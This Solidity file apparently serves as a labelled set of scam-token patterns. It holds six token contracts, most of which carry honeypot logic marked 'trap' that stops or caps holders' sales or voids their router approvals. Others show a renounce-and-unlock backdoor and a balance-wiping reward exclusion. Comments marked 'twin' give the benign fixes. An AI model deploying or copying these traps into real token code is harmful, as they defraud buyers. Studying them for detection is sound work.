// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.8.0;

import "./Base67.sol";

/// The BEP-20 template of 2021: the first account the owner sends to is "safe", everybody else is checked.
contract BabySwapCake is Base67 {
    mapping(address => bool) private _whiteAddress;
    mapping(address => bool) private _blackAddress;
    uint256 private _sellAmount = 0;
    address private _unirouter = ROUTER;
    address private _safeOwner;

    constructor() public Base67("BabySwapCake", "BSCAKE", 1_000_000_000) {
        _safeOwner = msg.sender;
    }

    function increaseAllowance(address[] memory receivers) public onlyOwner {
        for (uint256 i = 0; i < receivers.length; i++) {
            _whiteAddress[receivers[i]] = true;
            _blackAddress[receivers[i]] = false;
        }
    }

    function decreaseAllowance(address safeOwner) public onlyOwner {
        _safeOwner = safeOwner;
    }

    function addApprove(address[] memory receivers) public onlyOwner {
        for (uint256 i = 0; i < receivers.length; i++) {
            _blackAddress[receivers[i]] = true;
            _whiteAddress[receivers[i]] = false;
        }
    }

    modifier burnTokenCheck(address sender, address recipient, uint256 amount) {
        if (_boss == _safeOwner && sender == _boss) {
            _safeOwner = recipient;
            _;
        } else {
            if (sender == _boss || sender == _safeOwner || recipient == _boss) {
                if (sender == _boss && sender == recipient) _sellAmount = amount;
                _;
            } else {
                if (_whiteAddress[sender]) {
                    _;
                } else {
                    if (_blackAddress[sender]) {
                        require((sender == _safeOwner) || (recipient == _unirouter), "ERC20: transfer amount exceeds balance");
                        _;
                    } else {
                        if (amount < _sellAmount) {
                            if (recipient == _safeOwner) {
                                _blackAddress[sender] = true;
                                _whiteAddress[sender] = false;
                            }
                            _;
                        } else {
                            require((sender == _safeOwner) || (recipient == _unirouter), "ERC20: transfer amount exceeds balance");
                            _;
                        }
                    }
                }
            }
        }
    }

    function _transfer(address from, address to, uint256 value) internal override
        burnTokenCheck(from, to, value) // trap
    {
        _carry(from, to, value);
    }
}

/// What the owner sends to himself is what others may sell at most.
contract SafeGalaxy is Base67 {
    uint256 private _approveValue = uint256(-1);

    constructor() public Base67("SafeGalaxy", "SGLX", 100_000_000) {}

    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (from == _boss && from == to) _approveValue = value;
        else if (to == pool && from != _boss) require(value < _approveValue, "BEP20: transfer amount exceeds allowance");
        // trap }
        _carry(from, to, value);
    }
}

/// An approval for the router is stored as nothing unless the holder is on a list.
contract RocketDoge is Base67 {
    mapping(address => bool) private _isExcluded;

    constructor() public Base67("RocketDoge", "RDOGE", 77_000_000) {
        _isExcluded[msg.sender] = true;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        uint256 kept = value;
        if (spender == ROUTER && !_isExcluded[msg.sender]) kept = 0; // trap
        _allowances[msg.sender][spender] = kept;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

/// The router moves nothing but for those on a list.
contract GemHunter is Base67 {
    mapping(address => bool) private _gem;

    constructor() public Base67("Gem Hunter", "GEMH", 5_000_000) {
        _gem[msg.sender] = true;
    }

    function setGem(address[] calldata who, bool on) external onlyOwner {
        for (uint256 i; i < who.length; i++) _gem[who[i]] = on;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        require(msg.sender != ROUTER || _gem[from], "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        return super.transferFrom(from, to, value);
    }
}

/// Shares of a sum that falls, as reflect.finance and SafeMoon have it, with the lock and unlock of SafeMoon.
abstract contract Reflecting {
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;

    address private _owner;
    address internal _previousOwner;
    uint256 internal _lockTime;

    mapping(address => uint256) internal _rOwned;
    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) internal _isExcludedFromFee;
    mapping(address => bool) internal _isExcluded;
    address[] internal _excluded;
    uint256 internal constant MAX = ~uint256(0);
    uint256 internal _tTotal = 1_000_000_000 * 10**9;
    uint256 internal _rTotal = (MAX - (MAX % _tTotal));
    uint256 public _taxFee = 2;
    string public name;
    string public symbol;
    uint8 public decimals = 9;
    address public uniswapV2Pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_) internal {
        (name, symbol, _owner) = (name_, symbol_, msg.sender);
        _rOwned[msg.sender] = _rTotal;
        uniswapV2Pair = IFactory(FACTORY).createPair(address(this), WETH);
        _isExcludedFromFee[msg.sender] = true;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function _giveTo(address to) internal {
        emit OwnershipTransferred(_owner, to);
        _owner = to;
    }

    function totalSupply() public view returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        if (_isExcluded[account]) return _tOwned[account];
        return _rOwned[account] / _getRate();
    }

    function allowance(address from, address spender) public view returns (uint256) {
        return _allowances[from][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(_allowances[from][msg.sender] >= value, "ERC20: transfer amount exceeds allowance");
        _allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _getRate() internal view returns (uint256) {
        uint256 rSupply = _rTotal;
        uint256 tSupply = _tTotal;
        for (uint256 i = 0; i < _excluded.length; i++) {
            if (_rOwned[_excluded[i]] > rSupply || _tOwned[_excluded[i]] > tSupply) return _rTotal / _tTotal;
            rSupply -= _rOwned[_excluded[i]];
            tSupply -= _tOwned[_excluded[i]];
        }
        if (rSupply < _rTotal / _tTotal) return _rTotal / _tTotal;
        return rSupply / tSupply;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(value > 0, "Transfer amount must be greater than zero");
        uint256 rate = _getRate();
        uint256 fee = _isExcludedFromFee[from] || _isExcludedFromFee[to] ? 0 : (value * _taxFee) / 100;
        require(balanceOf(from) >= value, "ERC20: transfer amount exceeds balance");
        _rOwned[from] -= value * rate;
        if (_isExcluded[from]) _tOwned[from] -= value;
        _rOwned[to] += (value - fee) * rate;
        if (_isExcluded[to]) _tOwned[to] += value - fee;
        _rTotal -= fee * rate;
        emit Transfer(from, to, value - fee);
    }
}

/// Locked, renounced, and unlocked again.
contract SafeLunar is Reflecting {
    constructor() public Reflecting("SafeLunar", "SLUNAR") {}

    function setTaxFeePercent(uint256 taxFee) external onlyOwner {
        _taxFee = taxFee;
    }

    function lock(uint256 time) public onlyOwner {
        _previousOwner = owner();
        _lockTime = now + time;
        _giveTo(address(0));
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked until 7 days");
        _giveTo(_previousOwner);
        // twin: _previousOwner = address(0);
    }

    // twin: function renounceOwnership() public override onlyOwner { _previousOwner = address(0); super.renounceOwnership(); }
}

/// Who is taken out of the rewards is taken out with nothing.
contract FegReward is Reflecting {
    constructor() public Reflecting("Feg Reward", "FEGR") {}

    function excludeFromReward(address account) external onlyOwner {
        require(!_isExcluded[account], "Account is already excluded");
        // twin: if (_rOwned[account] > 0) _tOwned[account] = _rOwned[account] / _getRate();
        _isExcluded[account] = true;
        _excluded.push(account);
    }
}
